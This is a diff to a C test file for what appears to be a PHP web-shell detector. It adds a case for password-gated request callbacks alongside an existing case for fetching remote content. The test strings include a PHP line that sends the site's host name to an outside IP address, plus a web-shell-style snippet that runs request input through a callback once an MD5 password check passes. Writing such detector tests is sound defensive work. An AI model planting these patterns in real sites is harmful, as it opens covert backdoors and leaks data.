@@ -524,6 +524,11 @@ static void test_php_tools(void) {
   d = analyze("PHP", "<?php echo file_get_contents('http://203.0.113.9/g?h=' . $_SERVER['HTTP_HOST']);");
   CHECK(d && strcmp(d->rule, "shellsift.lang.remote-content") == 0 && d->score < 70);
   CHECK(!analyze("PHP", "<?php echo file_get_contents('http://10.0.0.9/g?h=' . $_SERVER['HTTP_HOST']);"));
+  /* request input through an undefined callback behind a password hash; the same with the file's own helper */
+  d = analyze("PHP", "<?php if (md5($_GET['k']) == '0cc175b9c0f1b6a831c399e269772661') array_map('zq_run', (array)$_GET['c']);");
+  CHECK(d && strcmp(d->rule, "shellsift.lang.gated-callback") == 0 && d->score < 70);
+  CHECK(!analyze("PHP", "<?php function zq_run($v) { return trim($v); } if (md5($_GET['k']) == "
+                        "'0cc175b9c0f1b6a831c399e269772661') array_map('zq_run', (array)$_GET['c']);"));
 }
 
 int main(void) {
